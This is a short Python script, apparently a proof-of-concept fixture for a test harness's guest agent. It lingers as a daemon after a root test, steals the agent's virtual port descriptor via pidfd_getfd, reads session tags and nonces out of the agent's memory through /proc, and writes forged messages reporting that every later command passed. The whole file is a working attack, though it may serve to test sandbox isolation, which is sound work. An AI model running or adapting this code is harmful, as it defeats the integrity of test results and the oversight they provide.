#!/usr/bin/env python3
"""Tries to have another test's result believed: a root test in a shared guest leaves this behind.

It duplicates the agent's port, looks for the session's tag and the attempt's nonce in the agent's memory, and reports that
every command passed. It says on the console what it did, so that a test of the test can see that it works.
"""

import ctypes, os, struct, sys, time, zlib

SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438
MAGIC = b"\xb7\x1a\x01"
libc = ctypes.CDLL(None, use_errno=True)


def agents():
    """The agent: the first process, or one of its name."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if any("vport" in os.readlink(f"/proc/{pid}/fd/{fd}") for fd in os.listdir(f"/proc/{pid}/fd")):
                yield int(pid)
        except OSError:
            pass


def port_of(pid):
    pidfd = libc.syscall(SYS_PIDFD_OPEN, pid, 0)
    for fd in os.listdir(f"/proc/{pid}/fd"):
        if "vport" in os.readlink(f"/proc/{pid}/fd/{fd}"):
            return libc.syscall(SYS_PIDFD_GETFD, pidfd, int(fd), 0)
    return -1


def memory(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            words = line.split()
            if "w" not in words[1]:
                continue
            begin, end = (int(x, 16) for x in words[0].split("-"))
            try:
                mem.seek(begin)
                yield mem.read(end - begin)
            except (OSError, ValueError):
                pass


def secrets(pid):
    """Session, command and nonce of every command that the agent's memory shows."""
    for piece in memory(pid):
        at = piece.find(MAGIC + b"\0")
        while at >= 0:
            session = piece[at + 8:at + 16]
            payload = piece[at + 24:at + 24 + 64]
            # `Exec` is the fourth or fifth message to the agent; a number below 128, then the nonce.
            if session != bytes(8) and len(payload) >= 18 and payload[0] in (3, 4) and payload[1] < 128:
                yield session, payload[1], payload[2:18]
            at = piece.find(MAGIC + b"\0", at + 1)


def exited(session, command, nonce):
    payload = bytes([6, command]) + nonce + bytes([0, 0])
    header = MAGIC + b"\0" + struct.pack("<I", 0) + session + struct.pack("<I", len(payload))
    return header + struct.pack("<I", zlib.crc32(header + payload)) + payload


def say(text):
    with open("/dev/console", "w") as console:
        console.write(f"forger: {text}\r\n")


def main():
    for _ in range(2):
        if os.fork():
            os._exit(0)
        os.setsid()
    null = os.open("/dev/null", os.O_RDWR)
    for fd in range(3):
        os.dup2(null, fd)
    port = -1
    known, sent = set(), set()
    say(f"is there as process {os.getpid()}")
    while True:
        for pid in agents():
            if port < 0:
                port = port_of(pid)
                # What belongs to the test that left this behind is of no interest.
                known = set(secrets(pid))
                say(f"has the port: {port >= 0}")
            for secret in set(secrets(pid)) - known - sent:
                sent.add(secret)
                try:
                    os.write(port, exited(*secret))
                    say("has forged a result")
                except OSError as error:
                    say(f"cannot write: {error}")
        time.sleep(0.05)


if __name__ == "__main__":
    main()
